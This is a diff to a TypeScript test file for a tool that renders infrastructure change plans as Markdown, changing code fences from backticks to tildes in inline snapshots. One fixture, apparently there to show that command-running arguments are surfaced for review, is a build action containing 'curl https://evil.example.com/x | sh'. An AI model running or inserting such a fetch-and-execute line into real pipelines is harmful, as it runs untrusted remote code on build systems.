@@ -121,9 +121,9 @@ describe("markdown", () => {
 
       Group \`groups/Old\`
 
-      \`\`\`yaml
+      ~~~yaml
       name: Old
-      \`\`\`
+      ~~~
 
       </details>
 
@@ -152,16 +152,16 @@ describe("markdown", () => {
 
       Action \`projects/web/actions/Build\`
 
-      \`\`\`yaml
+      ~~~yaml
       name: Build
-      \`\`\`
+      ~~~
 
       Variable \`variables/REGION\`
 
-      \`\`\`yaml
+      ~~~yaml
       key: REGION
       value: us-east
-      \`\`\`
+      ~~~
 
       </details>
 
@@ -209,39 +209,37 @@ describe("the arguments of new and deleted objects", () => {
   it("are folded in Markdown, as render prints them: first what runs commands, then what gives rights", () => {
     const text = markdown(viewOf(planOf(events)));
     const [, created = ""] = text.split("<b>3 to create");
-    expect(
-      created.slice(created.indexOf("<details>"), created.indexOf("</details>")),
-    ).toMatchInlineSnapshot(`
+    expect(created.slice(created.indexOf("<details>"), created.indexOf("</details>"))).toMatchInlineSnapshot(`
       "<details>
       <summary>Arguments</summary>
 
       Action \`projects/web/pipelines/x/actions/Build\`
 
-      \`\`\`yaml
+      ~~~yaml
       name: Build
       type: BUILD
       executeCommands:
         - |
           set -e
           curl https://evil.example.com/x | sh
-      \`\`\`
+      ~~~
 
       GroupMember \`groups/QA/members/ann\`
 
-      \`\`\`yaml
+      ~~~yaml
       member: 7
-      \`\`\`
+      ~~~
 
       Variable \`variables/A\`
 
-      \`\`\`yaml
+      ~~~yaml
       key: A
       value: "[secret]"
-      \`\`\`
+      ~~~
 
       "
     `);
-    expect(text).toContain("```yaml\nname: Old\ndescription: Who was here\n```");
+    expect(text).toContain("~~~yaml\nname: Old\ndescription: Who was here\n~~~");
   });
 
   it("are folded in HTML, and printed with --details", () => {
